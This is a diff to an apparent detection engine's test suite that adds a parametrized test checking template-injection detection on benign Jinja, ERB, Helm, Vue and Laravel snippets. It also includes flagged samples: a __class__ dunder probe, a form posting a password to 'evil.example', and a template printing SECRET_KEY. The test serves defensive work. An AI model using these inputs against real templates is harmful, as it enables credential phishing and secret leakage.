@@ -2440,3 +2440,30 @@ def test_filters_name_lines_options_and_kusto(
 ])
 def test_unseen_set_21_misses(engine: DetectionEngine, value: str, flagged: bool) -> None:
     assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # From bait 21: a date's format method, Jinja's i18n tags, an ERB comment, Helm's values,
+    # a component's own form, Laravel's old(), one tag printing a field.
+    ("Hello {{ name | default('there') | title }}, your trial ends on "
+     "{{ trial_end.strftime('%d %B %Y') }}.", False),
+    ("{% trans %}You have {{ count }} new message{% pluralize %}You have {{ count }} new "
+     "messages{% endtrans %}", False),
+    ('<%# app/views/shared/_flash.html.erb %>\n<% flash.each do |type, message| %>\n'
+     '  <div class="flash flash--<%= type %>" role="alert"><%= message %></div>\n<% end %>', False),
+    ("{{- range $i, $e := .Values.env }}\n- name: {{ $e.name | quote }}\n{{- end }}", False),
+    ('<template>\n  <form @submit.prevent="save">\n    <p v-if="error">{{ error }}</p>\n'
+     "    <button :disabled=\"saving\">{{ saving ? 'Saving\u2026' : 'Save' }}</button>\n"
+     "  </form>\n</template>", False),
+    ('<input name="coupon" value="{{ old(\'coupon\') }}" maxlength="32">', False),
+    ("{{ user.first_name }}", False),
+    # A format method of a dunder, a form posting elsewhere, a field that holds a secret, an
+    # array's mutator.
+    ("{{ x.__class__.upper() }} {{ y }}", True),
+    ('<template><form action="https://evil.example/login"><input name=pw></form></template>',
+     True),
+    ("{{ settings.SECRET_KEY }}", True),
+    ("{{this.pop}}", True),
+])
+def test_bait_21_template_source(engine: DetectionEngine, value: str, flagged: bool) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
